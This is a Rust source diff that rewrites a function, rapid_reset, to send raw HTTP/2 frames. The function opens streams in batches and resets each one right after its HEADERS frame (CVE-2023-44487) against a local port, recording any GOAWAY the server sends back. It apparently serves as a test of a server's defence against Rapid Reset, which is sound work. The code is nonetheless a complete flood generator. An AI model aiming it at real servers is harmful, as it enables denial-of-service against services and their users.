@@ -116,53 +116,90 @@ pub struct FloodOutcome {
 
 /// Opens up to `count` streams, resetting each right after its HEADERS
 /// (CVE-2023-44487), within `within`.
+///
+/// Written on raw frames rather than the h2 crate: the crate, once it has
+/// read a GOAWAY, shuts its own write side down, and a frame it still
+/// flushes then fails with EPIPE, which it reports instead of the GOAWAY.
+/// Here a reader thread records the GOAWAY frame itself.
 pub fn rapid_reset(port: u16, count: usize, within: Duration) -> FloodOutcome {
-    crate::backend::runtime().block_on(async move {
-        let mut out = FloodOutcome {
-            streams: 0,
-            closed_by_server: false,
-            goaway: None,
-        };
-        let Ok(tcp) = tokio::net::TcpStream::connect(("127.0.0.1", port)).await else {
-            return out;
-        };
-        let Ok((mut client, conn)) = h2::client::handshake(tcp).await else {
-            return out;
-        };
-        let driver = tokio::spawn(conn);
-        let deadline = tokio::time::Instant::now() + within;
-        while out.streams < count && tokio::time::Instant::now() < deadline {
-            let ready = tokio::time::timeout_at(deadline, client.clone().ready()).await;
-            let mut c = match ready {
-                Ok(Ok(c)) => c,
-                Ok(Err(e)) => {
-                    out.closed_by_server = true;
-                    out.goaway = e.reason().map(u32::from);
-                    break;
-                }
-                Err(_) => break,
-            };
-            let req = match http::Request::get(format!("http://127.0.0.1:{port}/flood")).body(()) {
-                Ok(r) => r,
-                Err(_) => break,
-            };
-            match c.send_request(req, false) {
-                Ok((_, mut send)) => send.send_reset(h2::Reason::CANCEL),
-                Err(e) => {
-                    out.closed_by_server = true;
-                    out.goaway = e.reason().map(u32::from);
-                    break;
-                }
+    use std::io::{Read, Write};
+    use std::sync::atomic::{AtomicBool, Ordering};
+    use std::sync::Arc;
+    let mut out = FloodOutcome {
+        streams: 0,
+        closed_by_server: false,
+        goaway: None,
+    };
+    let Ok(mut tcp) = std::net::TcpStream::connect(("127.0.0.1", port)) else {
+        return out;
+    };
+    let Ok(mut rd) = tcp.try_clone() else {
+        return out;
+    };
+    let _ = rd.set_read_timeout(Some(within + Duration::from_secs(5)));
+    let ended = Arc::new(AtomicBool::new(false));
+    let ended_r = ended.clone();
+    // Frames from the server: SETTINGS are acknowledged by the writer's
+    // preface ACK below; the reader only looks for GOAWAY and the close.
+    let reader = std::thread::spawn(move || {
+        let mut goaway = None;
+        let mut head = [0u8; 9];
+        loop {
+            if rd.read_exact(&mut head).is_err() {
+                break;
             }
-            client = c;
-            out.streams += 1;
-        }
-        drop(client);
-        if let Ok(Ok(Err(e))) = tokio::time::timeout(Duration::from_secs(5), driver).await {
-            if out.goaway.is_none() {
-                out.goaway = e.reason().map(u32::from);
+            let len = u32::from_be_bytes([0, head[0], head[1], head[2]]) as usize;
+            let mut payload = vec![0u8; len];
+            if rd.read_exact(&mut payload).is_err() {
+                break;
+            }
+            if head[3] == 0x7 && len >= 8 {
+                goaway = Some(u32::from_be_bytes([
+                    payload[4], payload[5], payload[6], payload[7],
+                ]));
             }
         }
-        out
-    })
+        ended_r.store(true, Ordering::Relaxed);
+        goaway
+    });
+    let mut preface = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    // Empty SETTINGS, then an ACK of the server's.
+    preface.extend_from_slice(&[0, 0, 0, 0x4, 0, 0, 0, 0, 0]);
+    preface.extend_from_slice(&[0, 0, 0, 0x4, 0x1, 0, 0, 0, 0]);
+    if tcp.write_all(&preface).is_err() {
+        out.closed_by_server = true;
+        out.goaway = reader.join().ok().flatten();
+        return out;
+    }
+    // :method GET, :scheme http, :path / (static table), :authority x
+    // (literal without indexing, name index 1).
+    let block: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'x'];
+    let deadline = std::time::Instant::now() + within;
+    let mut stream_id: u32 = 1;
+    while out.streams < count && std::time::Instant::now() < deadline {
+        if ended.load(Ordering::Relaxed) {
+            break;
+        }
+        let mut batch = Vec::with_capacity(64 * 32);
+        for _ in 0..64 {
+            let id = stream_id.to_be_bytes();
+            // HEADERS, END_HEADERS | END_STREAM.
+            batch.extend_from_slice(&[0, 0, block.len() as u8, 0x1, 0x5]);
+            batch.extend_from_slice(&id);
+            batch.extend_from_slice(block);
+            // RST_STREAM(CANCEL).
+            batch.extend_from_slice(&[0, 0, 4, 0x3, 0]);
+            batch.extend_from_slice(&id);
+            batch.extend_from_slice(&0x8u32.to_be_bytes());
+            stream_id += 2;
+        }
+        if tcp.write_all(&batch).is_err() {
+            break;
+        }
+        out.streams += 64;
+    }
+    let _ = tcp.shutdown(std::net::Shutdown::Write);
+    out.goaway = reader.join().ok().flatten();
+    out.closed_by_server = out.goaway.is_some() || out.streams < count;
+    out
 }
